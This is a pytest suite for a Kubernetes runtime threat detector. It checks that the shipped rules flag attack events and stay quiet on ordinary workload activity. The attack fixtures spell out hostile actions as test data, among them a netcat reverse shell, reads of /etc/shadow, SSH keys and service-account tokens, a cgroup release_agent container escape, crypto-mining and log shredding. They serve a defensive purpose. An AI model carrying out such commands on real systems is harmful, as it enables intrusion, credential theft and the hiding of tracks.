"""The rules that come with the product: each finds what it is for, and leaves ordinary work alone."""

from __future__ import annotations

from typing import Any

import pytest

from dabbawala.guard.runtime import detector, events, main
from dabbawala.guard.runtime.events import EXACT, INFERRED, Event
from dabbawala.guard.runtime.rules import Rule
from tests.guard.runtime import given
from tests.guard.runtime.given import connected, entered, program, read, removed, started, written

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/..2026_01_01_00_00_00.1/token"
SOCKETS = ("socket:[1]", "socket:[1]", "socket:[1]")


@pytest.fixture(scope="module")
def shipped() -> tuple[Rule, ...]:
    return main.load(main.Settings())


def audited(**fields: Any) -> Event:
    return Event(events.AUDIT, given.NOON, audit={"stage": "ResponseComplete", "auditID": "1", **fields})


def asked(user: str, verb: str, resource: str, **target: str) -> Event:
    return audited(
        user={"username": user}, verb=verb, responseStatus={"code": 200}, objectRef={"resource": resource, **target}
    )


ATTACKS = [
    ("RUN-01", "Crypto miner started", started(program("/tmp/xmrig"))),
    ("RUN-01", "Crypto miner started", started(program("kworkerd", "-o", "stratum+tcp://pool.example.com:3333"))),
    ("RUN-01", "Crypto miner started", started(program("run", "--mode=mining"))),
    ("RUN-01", "Connection to a mining pool's port", connected("203.0.113.9", 3333, program("x"))),
    ("RUN-02", "Service account token read by an untrusted program", read(TOKEN, entered("cat", TOKEN))),
    ("RUN-02", "Service account token read by an untrusted program", read(TOKEN, program("grep", "-r", "ey"))),
    ("RUN-02", "Service account token read by an untrusted program", read(TOKEN, None)),
    ("RUN-02", "Sensitive file read by an untrusted program", read("/etc/shadow", entered("cat", "/etc/shadow"))),
    ("RUN-02", "Sensitive file read by an untrusted program", read("/root/.ssh/id_ed25519", program("tar", "c"))),
    (
        "RUN-02", "Key material of a payment workload read",
        read("/etc/tls/server.pem", entered("cat"), workload=given.PAYMENT),
    ),
    ("RUN-03", "Connection to the metadata address", connected("169.254.169.254", 80, given.server())),
    ("RUN-03", "Connection by a command from outside", connected("10.42.1.9", 5432, entered("python3"))),
    ("RUN-03", "Connection out of the cluster by a network tool", connected("203.0.113.9", 443, program("curl"))),
    ("RUN-03", "Remote shell tool started", started(program("nc", "203.0.113.9", "9001", "-e", "/bin/sh"))),
    ("RUN-04", "Interactive shell in a container", started(entered("bash", tty=34816))),
    ("RUN-04", "Shell on a network connection", started(program("sh", "-i", streams=SOCKETS))),
    ("RUN-05", "Program executed that the image does not have", started(program("/opt/app/x", changed=True))),
    ("RUN-05", "Program executed from memory", started(program("3", exepath="/memfd:payload"))),
    ("RUN-05", "Program executed from shared memory", started(program("x", exepath="/dev/shm/x"))),
    ("RUN-05", "Package manager started in a container", started(entered("apt-get", "install", "nmap"))),
    ("RUN-06", "Namespace tool started in a container", started(program("nsenter", "-t", "1", "-m"))),
    ("RUN-06", "Way out of the container opened", written("/sys/fs/cgroup/rdma/release_agent", program("sh"))),
    ("RUN-06", "Way out of the container opened", read("/dev/sda1", program("debugfs"))),
    ("RUN-06", "Process traced in a container", given.happened(events.PTRACE, program("gdb"))),
    ("RUN-07", "Log file cleared", written("/var/log/app/a.log", program("sh"), emptied=True)),
    ("RUN-07", "Log file cleared", removed("/srv/app/logs/access.log", entered("rm"))),
    ("RUN-07", "Shell history cleared", removed("/root/.bash_history", entered("rm"))),
    ("RUN-07", "Logs shredded", started(program("shred", "-u", "/var/log/auth.log"))),
    ("RUN-07", "Sensor stopped", started(program("pkill", "-f", "falco"))),
    (
        "RUN-09", "Payment Service used by an unauthorised user",
        asked("mallory", "get", "services", name="payment-service", namespace="production"),
    ),
    ("RUN-09", "Command run in a pod", asked("eve", "create", "pods", name="web-0", subresource="exec")),
    ("RUN-09", "All Secrets listed", asked("eve", "list", "secrets")),
    (
        "RUN-09", "Administrator made",
        audited(
            user={"username": "eve"}, verb="create", objectRef={"resource": "clusterrolebindings", "name": "x"},
            requestObject={"roleRef": {"name": "cluster-admin"}},
        ),
    ),
    ("RUN-09", "Admission policy deleted", asked("eve", "delete", "validatingadmissionpolicies", name="no-root")),
]  # fmt: skip

ORDINARY = [
    ("a server starts", started(given.server())),
    ("a server starts a worker", started(program("gunicorn", "app:app"))),
    ("a probe runs a shell without a terminal", started(entered("sh", "-c", "test -f /tmp/healthy"))),
    ("a client library reads the pod's token", read(TOKEN, given.server())),
    ("a TLS server reads its own key", read("/etc/tls/server.pem", given.server(), workload=given.PAYMENT)),
    ("a tool reads certificates of authorities", read("/etc/ssl/certs/ca-certificates.crt", program("curl"))),
    ("a server connects to its database", connected("10.42.1.9", 5432, given.server())),
    ("a server connects to a partner", connected("203.0.113.9", 443, given.server())),
    ("a health check connects to loopback", connected("127.0.0.1", 8080, entered("curl"))),
    ("a short connection may be a probe's", connected("10.42.1.9", 80, entered("wget"), attribution=INFERRED)),
    ("a server writes its log", written("/var/log/app/a.log", given.server())),
    ("a server begins a new log", written("/var/log/app/a.log", given.server(), emptied=True)),
    ("logs are rotated", removed("/var/log/app/a.log.1", program("logrotate"))),
    ("a shell adds to its history", written("/root/.bash_history", entered("bash"))),
    ("the mounts are listed", started(program("mount"))),
    ("the kubelet reads a Secret", asked("system:node:node-1", "get", "secrets", name="x", namespace="shop")),
    (
        "the payment service's own account asks",
        asked("payment-service-account", "get", "services", name="payment-service", namespace="production"),
    ),
    ("a person lists Secrets of one namespace", asked("eve", "list", "secrets", namespace="shop")),
]


@pytest.mark.parametrize(("check", "rule", "event"), ATTACKS, ids=lambda one: one if isinstance(one, str) else "")
def test_an_attack_is_found(shipped: tuple[Rule, ...], check: str, rule: str, event: Event) -> None:
    alerts = {alert.rule: alert for alert in given.said(shipped, event)}
    assert rule in alerts, list(alerts)
    assert check in alerts[rule].ids
    assert "<NA>" not in alerts[rule].output or event.process is None or event.type == events.AUDIT


@pytest.mark.parametrize(("what", "event"), ORDINARY, ids=lambda one: one if isinstance(one, str) else "")
def test_ordinary_work_is_left_alone(shipped: tuple[Rule, ...], what: str, event: Event) -> None:
    assert not [alert.rule for alert in given.said(shipped, event)], what


def test_nothing_that_happens_on_the_node_itself_is_a_containers(shipped: tuple[Rule, ...]) -> None:
    for _, _, event in ATTACKS:
        if event.type != events.AUDIT:
            outside = Event(event.type, event.at, event.process, file=event.file, peer=event.peer, attribution=EXACT)
            assert not given.said(shipped, outside)


def test_every_shipped_rule_can_be_held_has_its_check_and_its_attack(shipped: tuple[Rule, ...]) -> None:
    assert not [rule.name for rule in shipped if not rule.active or rule.unseen]
    assert not [rule.name for rule in shipped if not any(tag.startswith("RUN-") for tag in rule.tags)]
    assert {rule.name for rule in shipped} == {rule for _, rule, _ in ATTACKS}
    covered = {tag for rule in shipped for tag in rule.tags}
    assert {f"RUN-0{number}" for number in (1, 2, 3, 4, 5, 6, 7, 9)} | {"S052", "S053", "S054"} <= covered


def test_the_paths_that_rules_name_are_known_to_whoever_watches_directories(shipped: tuple[Rule, ...]) -> None:
    assert {"/etc/shadow", "/var/log/", "/etc/secrets/", "/root/.ssh/"} <= detector.paths(shipped)
    assert not [path for path in detector.paths(shipped) if "*" in path]
